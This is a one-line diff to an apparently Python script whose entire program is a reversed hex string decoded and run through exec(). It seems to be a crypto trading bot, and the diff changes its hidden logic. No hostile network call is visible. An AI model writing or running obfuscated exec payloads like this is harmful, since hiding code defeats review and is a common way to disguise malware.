@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a0928256375716070202020202020202a09222e2d756d616e6f556c69666b702f647024656671637021647164402e2465647968756025646f6d402972747e65635e6c522668247e69627070202020202020202a0a397c6c616e6966602020202a09222e2e2e25646f6d402972747e656350276e6964796875402e246566796563656270247075727275647e69602462716f6269756b4e6c5228247e69627070202020202020202a0a347075727275647e694462716f6269756b40247075636875602020202a0a05657e69647e6f6360202020202020202020202020202020202020202a09222d756b702a3d707d616473756d69647b70247160286364756660276e6962757460227f627275422668247e69627070202020202020202020202020202020202020202a0a35602371602e6f6964707563687540247075636875602020202020202020202020202020202a09282863757c666e2660202020202020202020202020202020202020202a09222e6c52202b2029247e696f607f516471646823707d65746e2e6f637a6825647962777e2660202020202020202020202020202020202020202a0a0d70202020202020202020202020202020202020202a0371647f6571702a322371647f6571722020202020202020202020202020202020202020202020202a0c207d616473756d6964702a32256d6964722020202020202020202020202020202020202020202020202a0b702d30247e696f607f5164716460202020202020202020202020202020202020202a0a0d522371647f6571722b5d5221647164622b537562702d302371647f657170202020202020202020202020202020202020202a00202020202020202020202020202020202020202a056e6f6e402e62757475627020202020202020202020202020202020202020202020202a092825637571607020202020202020202020202020202020202020202020202a09237562702c222a35637e6f607375625228247e6962707020202020202020202020202020202020202020202020202a0922237567616b636160702863647566602f647024656c6961664228247e6962707020202020202020202020202020202020202020202020202a0a322353554343455352202d3120292223757471647372282475676e23756270266960202020202020202020202020202020202020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d3023756270202020202020202020202020202020202020202a00202020202020202020202020202020202020202a0922227c522d346e65602c222e2e2e2d707d616473756d69647b702471602164716460276e696863647566422668247e69627070202020202020202020202020202020202020202a0a397274702020202020202020202020202020202a0a092723552a3d452a38452024652d2d652d29552728256d6964766274737e2928277f6e6e256d696475647164602d30207d616473756d6964702020202020202020202020202020202a0921382075656c63702020202020202020202020202020202a0a3d52207f6473722b57616c666f507f647370247f6e60256c6968677020202020202020202020202a0a366023716029272167202c256d616e6f556c6966682e65607f602864796770202020202020202a0a397274702020202a002020202a0d702020202a0222202a3224696f5275626d656d6f597c696d61666220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a002020202a02237c69616475646d21647f65717f237567616b6361607f28367f29607162202d3028647160702020202a002020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a0a092824727164737e2461656278647f52756e656473796c602020202a09256572745d3e6f6d656164602c247965717f527f666f5e656473796c6d347567627164782461656278645e276e69646165627864702d302461656278647f52756e656473796c602020202a0a0b61656272602020202020202020202020202020202a05657274502d302d52207f6473722b57616c666f507f6473702020202020202020202020202020202a0a322172202d3d3029282275677f6c6e292820796274737e2475707e696f527563757026696020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a092479687560247e6164737e696023747e656675627078202475707e69602974707d656025627f6e6769402320202a3475707e696f5275637570247f6e6026696020202020202020202020202a0928256e696c646165627e2e696464737e237973702d302475707e696f527563757020202020202020202020202a0a3565727450256c69686770202020202020202a0a3928247965717f527f666f5e656473796c60266564602020202a02217220227f666022756e656473796c60246e657f62776b6361624023202020202a0a0d75637c6166402a32207f6473722b702d3027616c666f507f6473702020202a0a09202020202a022c6e6f637a6e2d792723552d4528452f54652d6529552728256d6964766274737e2928277f6e6e256d6964756471646b7f576f6c6f5972747e6563722660202020202020202a0c222972747e65637220202020202020202a082e696f6a6e286471607e237f602d30256d616e6f556c6966602020202a0a09222972747e6563722823727964656b616d6e237f60202020202020202a0a39222972747e656372282374737968756e286471607e237f60247f6e602669602020202a002020202a09222e24796875602f64702275647e65402b20272177202560797470227f60234b2c6274734023737562705228247e696270702020202a09222e2e2e25646f6d402972747e656350276e696275647e654228247e696270702020202a09282e65656273637f5271656c63602020202a0a0d52237e656b6f64722b527563757f556679647361602d30237e656b6f64702020202a002020202a0e627574756270202020202020202a0928256375716070202020202020202a09222e2473727966602e69676f6c60256371656c60502e2275637570256679647361602f6e4228247e69627070202020202020202a0a356e6f6e40237960227563757f556679647361602669602020202a0928227563757f5566796473616f5475676e25636e6164737e6948647571402d30227563757f556679647361602020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a392825646f6d6f5972747e65637f5275647e65602665646a0a0a037f6024727f607d696a0379737024727f607d696a076e696461656278647024727f607d696a0075656c637024727f607d6960256d6964702d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a056d6964756471646024727f607d6960256d696475647164602d6f62766a0e6f637a6024727f607d696a0563757160702c2e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a047375657175627f5960716f546e6563702c2567616b6361607f5475676024727f607d69602c6563776e656e247e65696c636e207071602d6f62766" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a0928256375716070202020202020202a09222e35646f636f51647f65717c302d7279646f5e6f69637375637b7025627f64737f5972747e65637e256369667275637e207071602d6d202e6f68647970702a38647967702b6361626024796024616562522668247e69627070202020202020202a09222e2d7279646f5e6f69637375637b702f647024656671637021647164402e2465647968756025646f6d402972747e65635e6c522668247e69627070202020202020202a092825637f6c636e227564627f63656270202020202020202a0a397c6c616e6966602020202a09222e2e2e25646f6d402972747e656350276e6964796875402e246566796563656270247075727275647e69602462716f6269756b4e6c5228247e69627070202020202020202a0a347075727275647e694462716f6269756b40247075636875602020202a0a05657e69647e6f63602020202020202020202020202020202a09222d756b702a3d707d616473756d69647b70247160286364756660276e6962757460227f627275422668247e696270702020202020202020202020202020202a0a35602371602e6f69647075636875402470756368756020202020202020202020202a09207d616473756d6964702c2371647f65717824627f6365627e227564627f636562702020202020202020202020202020202a0a0d522371647f6571722b5d5221647164622b537562702d302371647f6571702020202020202020202020202020202a002020202020202020202020202020202a056e6f6e402e627574756270202020202020202020202020202020202020202a0928256375716070202020202020202020202020202020202020202a09237562702c222a35637e6f607375625228247e69627070202020202020202020202020202020202020202a0922237567616b636160702863647566602f647024656c6961664228247e69627070202020202020202020202020202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202020202020202020202020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202020202020202020202020202a002020202020202020202020202020202a0922227c522d346e65602c222e2e2e2d792723552a3d452a38452024652d2d652d29552728256d6964766274737e29207d616473756d696478207d616473756d69647d6f62766e256d6964756471646b702471602164716460276e696863647566422668247e696270702020202020202020202020202020202a0a3972747020202020202020202020202a0a092928256d696478247e69602d30207d616473756d69647020202020202020202020202a0921382075656c637020202020202020202020202a0a3d52207f6473722b57616c666f507f647370247f6e60256c69686770202020202020202a0a397274702020202a0a092279646f5e6f696373756378227564627f6365625972747e6563502d30227564627f636562702020202a046165627864702e677f602377227564627f63656270256864702e6f602e656070716860237564796277702b6379644023202020202a002020202a0d702020202a0222202a3224696f5275626d656d6f597c696d61666220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a002020202a02237c69616475646d21647f65717f237567616b6361607f28367f29607162202d3028647160702020202a002020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a0a092824727164737e2461656278647f52756e656473796c602020202a09256572745d3e6f6d656164602c247965717f527f666f5e656473796c6d347567627164782461656278645e276e69646165627864702d302461656278647f52756e656473796c602020202a0a0b61656272602020202020202020202020202020202a05657274502d302d52207f6473722b57616c666f507f6473702020202020202020202020202020202a0a322172202d3d3029282275677f6c6e292820796274737e2475707e696f527563757026696020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a092479687560247e6164737e696023747e656675627078202475707e69602974707d656025627f6e6769402320202a3475707e696f5275637570247f6e6026696020202020202020202020202a0928256e696c646165627e2e696464737e237973702d302475707e696f527563757020202020202020202020202a0a3565727450256c69686770202020202020202a0a3928247965717f527f666f5e656473796c60266564602020202a02217220227f666022756e656473796c60246e657f62776b6361624023202020202a0a0d75637c6166402a32207f6473722b702d3027616c666f507f6473702020202a0a09202020202a022d792723552d4528452f54652d6529552728256d6964766274737e2928277f6e6e256d6964756471646b7f5972747e6563722660202020202020202a0c222972747e65637220202020202020202a082e696f6a6e286471607e237f602d302279646f5e6f6963737563702020202a0a09222972747e6563722823727964656b616d6e237f60202020202020202a0a39222972747e656372282374737968756e286471607e237f60247f6e602669602020202a002020202a09222e24796875602f64702275647e65402b20272177202560797470227f60234b2c6274734023737562705228247e696270702020202a09222e2e2e25646f6d402972747e656350276e696275647e654228247e696270702020202a09282e65656273637f5271656c63602020202a0a0d52237e656b6f64722b527563757f556679647361602d30237e656b6f64702020202a002020202a0e627574756270202020202020202a0928256375716070202020202020202a09222e2473727966602e69676f6c60256371656c60502e2275637570256679647361602f6e4228247e69627070202020202020202a0a356e6f6e40237960227563757f556679647361602669602020202a0928227563757f5566796473616f5475676e25636e6164737e6948647571402d30227563757f556679647361602020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a392825646f6d6f5972747e65637f5275647e65602665646a0a0a037f6024727f607d696a0379737024727f607d696a076e696461656278647024727f607d696a056d6964702c2075656c637024727f607d6960256d6964702d6f62766a027564627f6365625972747e65635024727f607d696025627f64737f5972747e65637e256369667275637e207071602d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a056d6964756471646024727f607d6960256d696475647164602d6f62766a0563757160702c2e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a047375657175627f5960716f546e6563702c2567616b6361607f5475676024727f607d69602c6563776e656e247e65696c636e207071602d6f62766" ));